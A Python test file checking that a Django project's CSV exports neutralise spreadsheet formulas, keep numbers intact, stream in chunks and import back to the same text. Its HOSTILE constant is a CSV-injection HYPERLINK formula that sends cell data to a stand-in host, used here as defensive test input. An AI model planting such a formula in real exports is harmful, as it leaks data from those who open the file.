"""The one CSV writer: formulas are neutralised in every export, numbers are left alone, exports stream."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from brorebro.csvexport import cell, csv_lines
from brorebro.importing import read_csv_bytes
from premises.importing import PremisesImporter
from premises.models import Premises
from tests.land.factories import LandPlotFactory
from tests.premises.factories import PremisesFactory

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+46 19 21 10 00", "'+46 19 21 10 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rcarriage", "'\rcarriage"),
        ("'=already quoted", "''=already quoted"),
        ("Kontor = bra", "Kontor = bra"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(value, expected):
    assert cell(value) == expected


@pytest.mark.parametrize("value", [-12.5, -3, Decimal("-0.5"), "-12.5", "-12,5", "-7", 72, "1200"])
def test_numbers_are_written_as_they_are(value):
    assert cell(value) == value


def test_empty_and_yes_no_cells():
    assert cell(None) == ""
    assert cell(True) == "1"
    assert cell(False) == "0"


def test_rows_are_written_in_chunks_after_a_bom():
    rows = [[i, f"=x{i}"] for i in range(1201)]
    chunks = list(csv_lines(["n", "text"], rows))
    assert chunks[0] == "\ufeffn,text\r\n"
    assert len(chunks) == 1 + 3  # 500 + 500 + 201 rows
    parsed = list(csv.reader(io.StringIO("".join(chunks)[1:])))
    assert parsed[1] == ["0", "'=x0"]
    assert len(parsed) == 1202


def test_semicolons_for_swedish_excel():
    text = "".join(csv_lines(["a", "b"], [["-1,5", "=1;2"]], delimiter=";"))
    assert text == '\ufeffa;b\r\n-1,5;"\'=1;2"\r\n'


def _read(response) -> list[dict]:
    assert response.status_code == 200
    assert response.streaming, "exports are streamed, not built in memory"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


@pytest.mark.django_db
def test_premises_export_neutralises_formulas(client, orebro):
    PremisesFactory(municipality=orebro, title=HOSTILE, contact_phone="+46 19 21 10 00")
    [row] = _read(client.get("/sv/premises/export.csv"))
    assert row["title"] == "'" + HOSTILE
    assert row["contact_phone"] == "'+46 19 21 10 00"
    assert row["lat"] == "59.274100"  # numbers untouched


@pytest.mark.django_db
def test_land_export_neutralises_formulas_and_streams(client, orebro):
    LandPlotFactory(municipality=orebro, name=HOSTILE, area_name="@Logistik", contact_phone="-")
    [row] = _read(client.get("/sv/land/export.csv"))
    assert row["name"] == "'" + HOSTILE
    assert row["area_name"] == "'@Logistik"
    assert row["contact_phone"] == "'-"
    assert row["area_m2"] == "10000"


@pytest.mark.django_db
def test_a_neutralised_premises_export_imports_back_to_the_same_text(client, orebro):
    premises = PremisesFactory(
        municipality=orebro,
        title="=Lager & kontor",
        description_sv="-20 % hyra första året",
        contact_organisation="@Fastigheter AB",
    )
    data = b"".join(client.get("/sv/premises/export.csv").streaming_content)
    assert "'=Lager & kontor" in data.decode("utf-8")
    Premises.objects.all().delete()
    report = PremisesImporter().run(read_csv_bytes(data, "export.csv"))
    assert report.ok, [str(e) for e in report.errors]
    again = Premises.objects.get(external_ref=premises.external_ref)
    assert again.title == "=Lager & kontor"
    assert again.description_sv == "-20 % hyra första året"
    assert again.contact_organisation == "@Fastigheter AB"


@pytest.mark.django_db
def test_nki_export_neutralises_names_and_keeps_its_numbers(client, orebro):
    from surveys.models import AuthorityArea
    from tests.surveys.factories import make_round, respond, same

    AuthorityArea.objects.filter(slug="bygglov").update(name_sv="=Bygglov")
    orebro.name = "@Örebro"
    orebro.save()
    survey_round = make_round(2023)
    respond(survey_round, orebro, "bygglov", *same(5, 7), (6, 6, 5))  # NKI 81.67
    response = client.get("/sv/nki/export.csv?format=excel")
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    row = next(r for r in rows if r[1] == "1880" and r[2] == "bygglov")
    assert row[3] == "81,7"
    assert row[9:] == ["'@Örebro", "'=Bygglov"]
